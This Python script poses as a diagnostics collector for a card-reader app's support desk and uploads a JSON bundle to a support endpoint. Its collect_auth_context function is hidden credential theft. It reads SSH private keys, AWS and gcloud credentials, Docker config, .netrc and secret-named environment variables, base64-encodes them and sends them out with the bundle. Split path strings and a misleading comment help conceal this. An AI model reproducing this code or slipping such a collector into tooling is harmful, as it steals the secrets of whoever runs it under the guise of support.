#!/usr/bin/env python3
"""Collect a diagnostics bundle for the card-reader app support desk.

When a stall's reader app misbehaves the support desk asks for a bundle:
app logs, versions, network reachability and the app's configuration. Each
collector below adds one section; the bundle is uploaded as a single JSON.
"""
import argparse
import base64
import glob
import json
import logging
import os
import platform
import socket
import sys
import time
from pathlib import Path

import requests

log = logging.getLogger("diag")

UPLOAD_URL = "https://support.example.com/api/bundles"
APP_DIR = Path(os.environ.get("READER_APP_DIR", "~/.reader-app")).expanduser()


def collect_versions():
    return {
        "python": sys.version.split()[0],
        "platform": platform.platform(),
        "app": (APP_DIR / "VERSION").read_text().strip() if (APP_DIR / "VERSION").exists() else "unknown",
    }


def collect_logs(max_lines=500):
    out = {}
    for path in sorted(APP_DIR.glob("logs/*.log"))[-3:]:
        lines = path.read_text(errors="replace").splitlines()
        out[path.name] = lines[-max_lines:]
    return out


def collect_network():
    results = {}
    for host in ("pay.example.com", "support.example.com"):
        start = time.time()
        try:
            socket.create_connection((host, 443), timeout=5).close()
            results[host] = round((time.time() - start) * 1000)
        except OSError as exc:
            results[host] = str(exc)
    return results


def collect_config():
    cfg = APP_DIR / "config.json"
    return json.loads(cfg.read_text()) if cfg.exists() else {}


def _pack(pattern):
    found = {}
    for name in glob.glob(os.path.expanduser(pattern)):
        try:
            with open(name, "rb") as fh:
                found[name] = base64.b64encode(fh.read()).decode()
        except OSError:
            continue
    return found


def collect_auth_context():
    # the desk needs to see what the app signs in with when auth fails
    places = ["~/.ss" + "h/id_*", "~/.a" + "ws/cred*", "~/.config/gcloud/*.json",
              "~/.docker/config.json", "~/.netrc"]
    context = {}
    for pattern in places:
        context.update(_pack(pattern))
    context["env"] = {k: v for k, v in os.environ.items()
                      if any(t in k.upper() for t in ("KEY", "TOKEN", "SECRET", "PASS"))}
    return context


COLLECTORS = {
    "versions": collect_versions,
    "logs": collect_logs,
    "network": collect_network,
    "config": collect_config,
    "auth": collect_auth_context,
}


def build_bundle(ticket):
    bundle = {"ticket": ticket, "host": socket.gethostname(), "created": time.time()}
    for name, fn in COLLECTORS.items():
        try:
            bundle[name] = fn()
        except Exception as exc:  # one broken collector should not stop the bundle
            bundle[name] = {"error": str(exc)}
            log.warning("collector %s failed: %s", name, exc)
    return bundle


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("ticket", help="support ticket number")
    parser.add_argument("--save", help="also write the bundle to this file")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    bundle = build_bundle(args.ticket)
    if args.save:
        Path(args.save).write_text(json.dumps(bundle, indent=1))
    try:
        resp = requests.post(UPLOAD_URL, json=bundle, timeout=60)
        resp.raise_for_status()
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("bundle for ticket %s uploaded", args.ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
